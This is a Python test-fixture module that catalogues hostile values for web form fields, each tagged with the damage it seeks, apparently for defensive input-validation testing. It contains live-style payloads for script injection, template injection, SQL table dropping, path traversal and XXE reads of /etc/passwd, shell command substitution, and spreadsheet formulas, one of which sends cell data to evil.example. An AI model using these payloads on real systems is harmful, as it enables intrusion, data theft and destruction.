"""What hostile hands put into a field, each with the damage it is after; docs/hostile-inputs.md is written from this table."""

from __future__ import annotations

from dataclasses import dataclass

NOBODY = "00000000-0000-0000-0000-000000000000"
PICTURE = '<img src=x onerror=zt()>'
TEMPLATE = "{{ request.user.password }}{% debug %}{% include '/etc/passwd' %}"


@dataclass(frozen=True, slots=True)
class Hostile:
    """One value: what it is called, what it is after, and the value; bytes go out as they are."""

    name: str
    after: str
    value: str | bytes


VALUES: tuple[Hostile, ...] = (
    Hostile("markup", "runs in the reader's browser", PICTURE),
    Hostile("end of a script", "leaves the script it is written into", "</script><script>zt()</script>"),
    Hostile("end of an attribute", "leaves the attribute it is written into", "\" autofocus onfocus=zt() x='"),
    Hostile("script address", "runs when a link is followed", "javascript:zt()"),
    Hostile("template words", "is carried out by the server", TEMPLATE),
    Hostile("format words", "reads the inside of the program", "%s%n%x {0.__class__.__mro__} ${7*7}"),
    Hostile("formula with a program", "runs when an export is opened", "=cmd|' /C calc'!A0"),
    Hostile("formula of a sheet", "fetches when an export is opened", "=HYPERLINK(\"http://evil.example/?\"&A1)"),
    Hostile("formula with plus", "is reckoned when an export is opened", "+1+1"),
    Hostile("formula with at", "is reckoned when an export is opened", "@SUM(1:1)"),
    Hostile("end of a statement", "is carried out by the database", "'; DROP TABLE organisations_person; --"),
    Hostile("always true", "finds everything", "' OR '1'='1"),
    Hostile("wildcards of LIKE", "finds everything", "%_\\%"),
    Hostile("words of a search language", "breaks a search", "& | ! ( <-> :* 'a"),
    Hostile("greedy pattern", "keeps a processor busy", "(a+)+$" + "a" * 60 + "!"),
    Hostile("way out of a folder", "reads a file of the server", "../../../../etc/passwd"),
    Hostile("command of a shell", "is carried out by the system", "$(id);`id`|id&&id"),
    Hostile("entity of XML", "reads a file of the server", "<!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]><a>&b;</a>"),
    Hostile("line end and header", "adds a header to the answer or a line to the log", "a\r\nSet-Cookie: zt=1\r\n\r\n<b>"),
    Hostile("words of a directory", "finds everybody", "*)(uid=*))(|(uid=*"),
    Hostile("one megabyte", "fills memory and tables", "a" * 1_000_000),
    Hostile("a hundred thousand characters", "fills memory and tables", "长" * 100_000),
    Hostile("one sign beyond what fits", "breaks a column", "字" * 8_001),
    Hostile("NUL", "cannot be kept by the database", "a\x00b"),
    Hostile("control signs", "confuses terminals and papers", "\x01\x08\x1b[31m\x7f\x85"),
    Hostile("right to left", "shows another name than there is", "\u202egnp.exe\u202c\u2066a"),
    Hostile("nothing to see", "passes for empty or for another", "\u200b\ufeff\u2060\u00ad"),
    Hostile("marks upon marks", "breaks the drawing of a page", "e" + "\u0301" * 500),
    Hostile("emoji", "beyond sixteen bits", "👨‍👩‍👧‍👦🏳️‍🌈𠮷"),
    Hostile("half a sign", "is no text", b"\xed\xa0\x80"),
    Hostile("no text", "is no text", b"\xff\xfe\xfd"),
    Hostile("GBK", "is text of another encoding", "问题".encode("gbk")),
    Hostile("number of 400 places", "overflows", "9" * 400),
    Hostile("beyond 64 bits", "overflows", str(2**63)),
    Hostile("beyond 32 bits", "overflows a column", str(2**31)),
    Hostile("below nothing", "counts backwards", "-1"),
    Hostile("infinity", "is no figure", "1e309"),
    Hostile("no number", "is no figure", "NaN"),
    Hostile("many places", "loses what it says", "0." + "1" * 60),
    Hostile("figures of another script", "passes for figures", "٣１Ⅳ²"),
    Hostile("hexadecimal", "is read otherwise elsewhere", "0x1F"),
    Hostile("no such day", "breaks a calendar", "2018-02-30"),
    Hostile("year nought", "breaks a calendar", "0000-01-01"),
    Hostile("year one", "underflows in another time zone", "0001-01-01"),
    Hostile("last day there is", "overflows in another time zone", "9999-12-31"),
    Hostile("a day far off", "asks for a million days", "99999-12-31"),
    Hostile("a moment", "is no day", "2018-04-27T25:61:61+99:99"),
    Hostile("nothing", "passes for an answer", ""),
    Hostile("only blanks", "passes for an answer", " \t\u3000 "),
    Hostile("nobody's id", "finds what is not his", NOBODY),
    Hostile("no id", "breaks a search for it", "nonsense"),
    Hostile("an id with braces", "is read otherwise elsewhere", "{" + NOBODY + "}"),
    Hostile("JSON", "is read as a thing", '{"__proto__": {"a": [1, null]}}'),
    Hostile("word for nothing", "is read as nothing", "null"),
    Hostile("word for yes", "is read as yes", "true"),
)

SHAPES = {
    "the field left out": "asks what nobody answers",
    "the field twice": "one of the two is checked, the other is used",
    "the field as a list": "is read as several",
    "a field nobody asked for": "is written into a column",
    "nothing at all": "asks what nobody answers",
}
"""How a form is sent otherwise than its page would, and what that is after."""

RUNS = ("<img src=x onerror=zt", "<script>zt()", "\" autofocus onfocus=zt", 'href="javascript:zt', "href='javascript:zt")
"""What stands on a page if one of them got out."""
